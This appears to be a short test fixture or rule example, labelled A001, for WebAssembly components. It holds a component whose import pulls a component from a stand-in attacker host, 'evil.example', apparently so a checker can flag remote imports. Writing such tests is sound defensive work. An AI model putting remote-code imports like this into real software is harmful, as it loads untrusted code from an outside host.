;; A001: asks for a component to be fetched from elsewhere.
(component
  (import "url=<https://evil.example/component.wasm>" (component))
  <<source>>)
